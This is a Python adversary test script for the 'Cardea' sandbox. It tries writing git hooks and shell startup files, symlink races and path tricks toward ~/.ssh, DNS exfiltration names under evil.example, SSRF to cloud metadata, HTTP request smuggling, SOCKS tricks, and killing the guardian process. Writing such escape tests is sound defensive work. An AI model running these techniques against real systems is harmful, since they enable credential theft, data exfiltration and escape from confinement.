# SPDX-FileCopyrightText: The Cardea contributors
# SPDX-License-Identifier: GPL-3.0-or-later
"""Runs inside `cardeactl run`, in a folder shared for changing: the attacks of one section, by its
name. Says, one JSON object a line, what became of each: an errno, or what it saw; 0: it got through."""
import errno
import json
import os
import signal
import socket
import stat
import subprocess
import sys
import threading
import time

HOME = os.path.expanduser('~')
SECTION, ARGUMENTS = sys.argv[1], sys.argv[2:]


def say(name, value):
    print(json.dumps({'name': name, 'got': value}), flush=True)


def attempt(name, function):
    try:
        function()
        say(name, 0)
    except OSError as error:
        say(name, error.errno or errno.ETIMEDOUT)
    except ValueError:  # what Python itself does not hand on: a NUL
        say(name, errno.EINVAL)


def write(path, text='x'):
    os.makedirs(os.path.dirname(path) or '.', exist_ok=True)
    with open(path, 'w', encoding='utf-8') as f:
        f.write(text)


def read(path):
    with open(path, 'rb') as f:
        return f.read()


# --- files ---

def places():
    """What the host would run or obey by itself, in a folder that may be written."""
    for name in ('.git/hooks/pre-commit', '.git/modules/m/hooks/post-checkout', '.git/commondir', '.vscode/tasks.json',
                 '.envrc', '.bashrc', '.profile', '.ssh/authorized_keys', '.config/autostart/x.desktop',
                 '.config/systemd/user/x.service', '.local/share/applications/x.desktop', '.idea/workspace.xml',
                 '.husky/pre-commit', '.GIT/HOOKS/x', './/.git/./hooks/y',
                 'a/../.git/hooks/z'):
        attempt('obeyed:' + name, lambda name=name: write(name))
    attempt('obeyed:folder-moved', lambda: (write('h/pre-push'), os.rename('h', '.git/hooks')))
    attempt('obeyed:git-moved', lambda: (write('g/hooks/x'), os.rename('g', '.git')))
    attempt('obeyed:git-linked', lambda: (os.makedirs('sub', exist_ok=True), os.symlink('../g', 'sub/.git')))


def races():
    """Names are swapped while others are opened: 20 000 times each."""
    secret = ARGUMENTS[0].encode()
    os.makedirs('real', exist_ok=True)
    write('real/f', 'mine')
    os.symlink(HOME + '/.ssh', 'link')
    stop = threading.Event()
    seen = []

    def swap():
        while not stop.is_set():
            for one, other in (('real', 'way'), ('link', 'way')):
                try:
                    os.rename(one, other)
                    os.rename(other, one)
                except OSError:
                    pass

    def swap_file():
        while not stop.is_set():
            try:
                write('n', 'mine')
                os.rename('n', 'f')
                os.symlink(HOME + '/.ssh/f', 'n')
                os.rename('n', 'f')
            except OSError:
                pass

    for thread in (threading.Thread(target=swap, daemon=True), threading.Thread(target=swap_file, daemon=True)):
        thread.start()
    end = time.monotonic() + 12
    tries = 0
    while tries < 20000 and time.monotonic() < end:
        for path in ('way/f', 'f'):
            tries += 1
            try:
                if secret in read(path):
                    seen.append(path)
            except OSError:
                pass
    stop.set()
    say('race', 0 if seen else errno.EACCES)
    say('race-tries', max(1, tries))


def names():
    """One name for a file, however it is written; and what is no name is refused."""
    for name in (b'a/../../.ssh/f', b'..//.ssh//f', b'./../.ssh/f/.', b'../.ssh/f\0', b'../.ssh/f\n', b'../.SSH/f',
                 '../.ssh/\u202ef'.encode(), b'../.ssh/\xff', b'../' + b'x' * 300, b'../' + b'd/' * 2100 + b'f',
                 b'/proc/self/root' + HOME.encode() + b'/.ssh/f', b'/proc/self/cwd/../.ssh/f',
                 b'/proc/thread-self/fd/0/../../.ssh/f'):
        attempt('name:' + repr(name[:40]), lambda name=name: read(name))
    os.makedirs('a', exist_ok=True)
    for name in (b'line\nfeed', 'right\u202eleft'.encode(), b'bytes\xff\xfe', b'-rf', b'$(id)', b' '):
        try:  # they are names like others where one may write
            with open(name, 'wb') as f:
                f.write(b'x')
            say('odd:' + repr(name), 0 if read(name) != b'x' else errno.EEXIST)
        except OSError as error:
            say('odd:' + repr(name), error.errno)


def strange():
    """Neither file nor folder: not opened, and nobody hangs."""
    for name in ('fifo', 'socket', 'device'):
        attempt('strange:' + name, lambda name=name: os.close(os.open(name, os.O_RDWR)))
    for mode, name in ((stat.S_IFIFO, 'f2'), (stat.S_IFSOCK, 's2'), (stat.S_IFBLK, 'b2'), (stat.S_IFCHR, 'c2')):
        attempt('made:' + name, lambda mode=mode, name=name: os.mknod(name, mode | 0o600, os.makedev(1, 3)))
    attempt('tty', lambda: os.close(os.open('/dev/tty', os.O_RDWR)))
    attempt('later', lambda: read(HOME + '/.ssh/made-later'))
    attempt('tmp-of-the-host', lambda: read('/tmp/cardea-adversary'))
    attempt('set-uid', lambda: os.chmod('a.txt', 0o4755) or os.stat('a.txt').st_mode & 0o4000 or open('/nonexistent'))


# --- the way out ---

def resolver():
    """A secret as a name that is looked up: no packet leaves."""
    for name in ('secret.evil.example', '7365637265740a.evil.example', 'x.local'):
        attempt('getaddrinfo:' + name, lambda name=name: socket.getaddrinfo(name, 80))
    for address, port in (('127.0.0.53', 53), ('8.8.8.8', 53), ('1.1.1.1', 853), ('224.0.0.251', 5353),
                          ('224.0.0.252', 5355), ('255.255.255.255', 67)):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            attempt(f'udp:{address}', lambda link=link, address=address, port=port: (
                link.settimeout(1), link.sendto(b'x', (address, port)), link.recv(1)))
            attempt(f'sendmsg:{address}', lambda link=link, address=address, port=port: (
                link.sendmsg([b'x'], [], 0, (address, port)), link.recv(1)))


def ask_proxy(first, *lines, then=b''):
    host, port = os.environ['HTTP_PROXY'].split('//')[1].strip('/').split(':')
    with socket.create_connection((host, int(port)), 5) as link:
        link.sendall('\r\n'.join((first,) + lines + ('', '')).encode('latin-1') + then)
        answer = link.recv(4096)
        return int(answer.split(b' ')[1]) if answer.startswith(b'HTTP/') else 0 if answer else errno.ECONNRESET


def proxied(name, *words, then=b''):
    try:
        status = ask_proxy(*words, then=then)
    except OSError as error:
        say(name, error.errno or errno.ETIMEDOUT)
        return
    say(name, status if status >= 400 else 0)


def proxy():
    """Names that only look like the one that was shared, and addresses in disguise."""
    good, port = ARGUMENTS
    for host in (f'{good}.evil.example', f'evil{good}', f'{good}@evil.example', f'{good}%2eevil.example',
                 f'evil.example#{good}', f'evil.example/.{good}', f'xn--{good}', '0x7f.1', '2130706433', '0177.0.0.1',
                 '127.1', '[::ffff:127.0.0.1]', '[::1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '0.0.0.0', '[::]',
                 '[fe80::1%25lo]', '169.254.169.254', 'metadata.google.internal', 'evil.example\x00.' + good, ''):
        proxied('connect:' + repr(host), f'CONNECT {host}:{port} HTTP/1.1', f'Host: {host}:{port}')
        proxied('get:' + repr(host), f'GET http://{host}:{port}/ HTTP/1.1', f'Host: {host}:{port}')
    proxied('host-differs', f'GET http://{good}:{port}/ HTTP/1.1', 'Host: evil.example')
    proxied('two-hosts', f'GET http://evil.example:{port}/ HTTP/1.1', f'Host: {good}:{port}', 'Host: evil.example')
    proxied('relative', 'GET / HTTP/1.1', 'Host: evil.example')
    proxied('other-port', f'CONNECT {good}:1 HTTP/1.1', f'Host: {good}:1')
    proxied('smuggled', f'GET http://evil.example:{port}/ HTTP/1.1', 'Host: evil.example', 'Content-Length: 4',
            'Transfer-Encoding: chunked', then=b'0\r\n\r\nGET /x')
    proxied('method', 'CONNECT evil.example HTTP/1.1')
    proxied('scheme', 'GET file:///etc/passwd HTTP/1.1', f'Host: {good}')
    for name, greeting, request in (
            ('socks5-nul', b'\5\1\0', b'\5\1\0\3' + bytes([len(good) + 13]) + b'evil.example\0' + good.encode() + b'\0P'),
            ('socks5-inside', b'\5\1\0', b'\5\1\0\1\x7f\0\0\1\0\x16'), ('socks5-bind', b'\5\1\0', b'\5\2\0\1\0\0\0\0\0P'),
            ('socks5-udp', b'\5\1\0', b'\5\3\0\1\0\0\0\0\0\0'), ('socks4', b'', b'\4\1\0P\x7f\0\0\1\0')):
        address = os.environ['HTTP_PROXY'].split('//')[1].strip('/').split(':')
        try:
            with socket.create_connection((address[0], int(address[1])), 5) as link:
                if greeting:
                    link.sendall(greeting)
                    link.recv(2)
                link.sendall(request)
                answer = link.recv(2)
                say(name, 0 if answer in (b'\5\0', b'\0\x5a') else errno.ECONNREFUSED)
        except OSError as error:
            say(name, error.errno or errno.ETIMEDOUT)


# --- processes and the guardian ---

def guardian():
    """Its sockets, folders and other processes; and what a parameter might switch off."""
    for path in ARGUMENTS[1:]:
        attempt('socket:' + os.path.basename(path), lambda path=path: (
            socket.socket(socket.AF_UNIX).connect(path)))
        attempt('read:' + os.path.basename(path), lambda path=path: read(path))
        attempt('list:' + os.path.basename(path), lambda path=path: os.listdir(path))
    for name in ('keyring', 'bus', 'systemd/private', 'gnupg/S.gpg-agent', 'pipewire-0', 'wayland-0', 'podman/podman.sock'):
        with socket.socket(socket.AF_UNIX) as link:
            attempt('socket:' + name, lambda link=link, name=name: link.connect(f'/run/user/{os.getuid()}/{name}'))
    pid = int(ARGUMENTS[0])
    for number in (0, signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        attempt(f'signal:{number}', lambda number=number: os.kill(pid, number))
    attempt('pidfd', lambda: os.close(os.pidfd_open(pid)))
    for name in ('mem', 'environ', 'fd', 'root', 'ns/net'):
        attempt('proc:' + name, lambda name=name: os.listdir(f'/proc/{pid}/{name}'))
    for program, words in (('su', ['-c', 'id']), ('sudo', ['-n', 'id']), ('mount', ['/dev/null']), ('unshare', ['-U', 'true'])):
        try:
            done = subprocess.run([program] + words, capture_output=True, check=False, timeout=20,
                                  stdin=subprocess.DEVNULL)
            say('privilege:' + program, done.returncode)
        except OSError as error:
            say('privilege:' + program, error.errno)
    say('alive', errno.EALREADY)


def inherited():
    """What a program is started with."""
    say('descriptors', errno.EBADF if set(os.listdir('/proc/self/fd')) <= {'0', '1', '2', '3'} else 0)
    bad = [n for n in os.environ if n.startswith(('LD_', 'BASH_', 'NODE_OPTIONS', 'GIT_CONFIG', 'SSH_', 'DBUS_', 'CARDEA'))
           or n in ('PYTHONSTARTUP', 'PYTHONPATH', 'PERL5OPT', 'ENV', 'DISPLAY', 'GIT_SSH_COMMAND', 'GIT_EXEC_PATH')]
    say('environment', bad or errno.EPERM)
    attempt('cwd:/', lambda: write('/widened'))
    attempt('cwd:sibling', lambda: write('../sibling/widened') or os.stat(ARGUMENTS[1] + '/nothing'))
    attempt('cwd:above', lambda: write('../widened') or os.stat(ARGUMENTS[1] + '/nothing'))  # its own, private


{'places': places, 'races': races, 'names': names, 'strange': strange, 'resolver': resolver, 'proxy': proxy,
 'guardian': guardian, 'inherited': inherited}[SECTION]()
